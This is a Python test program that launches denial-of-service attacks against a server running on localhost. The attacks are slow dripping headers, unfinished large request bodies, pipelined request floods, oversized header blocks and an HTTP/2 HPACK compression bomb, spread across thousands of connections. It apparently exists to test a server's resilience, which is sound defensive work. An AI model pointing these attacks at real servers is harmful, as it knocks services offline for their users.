"""An attacker as a separate program, to be used only against this machine.

    python -m tests.serving.attacker silent 8000 --connections 2000 --addresses 50 --seconds 60

It keeps this number of connections open, sends the first bytes of the attack on each, and replaces
those that are closed. With `--once` it replaces none, and reports when all is quiet. It prints the
number of connections that it opened.
"""

import argparse
import resource
import selectors
import socket
import time
from collections.abc import Callable
from itertools import cycle

OPENED_PER_SECOND = 2000
READ_BYTES = 1_000_000
QUIET_POLLS = 60
"""The number of quiet polls, three seconds of them, after which all connections have settled."""
HTTP2_HEADERS, HTTP2_SETTINGS, END_HEADERS = 1, 4, 4


def silent(_token: str) -> bytes:
    return b""


def dripping(_token: str) -> bytes:
    return b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nA: b"


def idle(_token: str) -> bytes:
    """Send one request, so that the connection no longer counts as waiting."""
    return b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"


def requests(_token: str) -> bytes:
    """Send requests without waiting for responses."""
    asked = b"GET /api/v1/families HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    return (asked + b"\r\n") * 100 + asked + b"Connection: close\r\n\r\n"


def bodies(token: str) -> bytes:
    """Send a request without the end of its body."""
    allowed = f"Authorization: Bearer {token}\r\n" if token else ""
    head = (
        f"POST /api/v1/shopping-list HTTP/1.1\r\nHost: 127.0.0.1\r\n{allowed}"
        "Content-Type: application/json\r\nContent-Length: 1450000\r\n\r\n"
    )
    return head.encode() + b" " * 1_400_000


def small_bodies(_token: str) -> bytes:
    head = b"POST /api/v1/accounts HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 60100\r\n\r\n"
    return head + b" " * 60_000


def bomb(_token: str) -> bytes:
    """Send an HPACK bomb: a 4 kB header, repeated by one-byte references, without any bodies."""
    path, host = b"/api/v1/accounts", b"127.0.0.1"
    asked = b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(host)]) + host
    said = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000
    named = b"\xbe" * 3900
    requests = (
        _frame(HTTP2_HEADERS, END_HEADERS, asked + (b"" if n else said) + named, 2 * n + 1)
        for n in range(20)
    )
    return (
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(HTTP2_SETTINGS, 0, b"", 0) + b"".join(requests)
    )


def headers(_token: str) -> bytes:
    """Send an incomplete head with nearly the maximum of headers."""
    return b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n" + (b"A: " + b"b" * 4000 + b"\r\n") * 15


ATTACKS: dict[str, Callable[[str], bytes]] = {
    "silent": silent,
    "dripping": dripping,
    "idle": idle,
    "requests": requests,
    "bodies": bodies,
    "small_bodies": small_bodies,
    "bomb": bomb,
    "headers": headers,
}


def _frame(kind: int, flags: int, payload: bytes, stream: int) -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def attack(
    port: int, said: bytes, connections: int, addresses: int, seconds: float, *, once: bool = False
) -> int:
    chosen = cycle(f"127.0.{1 + n // 200}.{1 + n % 200}" for n in range(addresses))
    began = time.monotonic()
    opened = still = 0
    with selectors.DefaultSelector() as selector:
        while (passed := time.monotonic() - began) < seconds:
            allowed = connections if once else connections + passed * OPENED_PER_SECOND
            while len(selector.get_map()) < connections and opened < allowed:
                _Connection(selector, next(chosen), port, said)
                opened += 1
            happened = selector.select(0.05)
            for key, events in happened:
                key.data.handle_events(events)
            still = 0 if happened or opened < connections else still + 1
            if once and still == QUIET_POLLS:
                print("all have come", flush=True)  # noqa: T201
        for key in list(selector.get_map().values()):
            key.data.close()
    return opened


class _Connection:
    """One connection, with the data that it still has to send."""

    def __init__(
        self, selector: selectors.BaseSelector, address: str, port: int, said: bytes
    ) -> None:
        self._selector = selector
        self._rest = memoryview(said)
        self._socket = socket.socket()
        self._socket.setblocking(False)
        self._socket.bind((address, 0))
        self._socket.connect_ex(("127.0.0.1", port))
        wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if said else 0)
        selector.register(self._socket, wanted, self)

    def handle_events(self, events: int) -> None:
        try:
            if events & selectors.EVENT_READ and not self._socket.recv(READ_BYTES):
                self.close()
            elif events & selectors.EVENT_WRITE:
                self._send()
        except BlockingIOError:
            pass
        except OSError:
            self.close()

    def _send(self) -> None:
        self._rest = self._rest[self._socket.send(self._rest) :]
        if not self._rest:
            self._selector.modify(self._socket, selectors.EVENT_READ, self)

    def close(self) -> None:
        self._selector.unregister(self._socket)
        self._socket.close()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, required=True)
    parser.add_argument("--addresses", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--token", default="")
    parser.add_argument("--once", action="store_true")
    asked = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    said = ATTACKS[asked.attack](asked.token)
    many = (asked.connections, asked.addresses, asked.seconds)
    print(attack(asked.port, said, *many, once=asked.once))  # noqa: T201


if __name__ == "__main__":
    main()
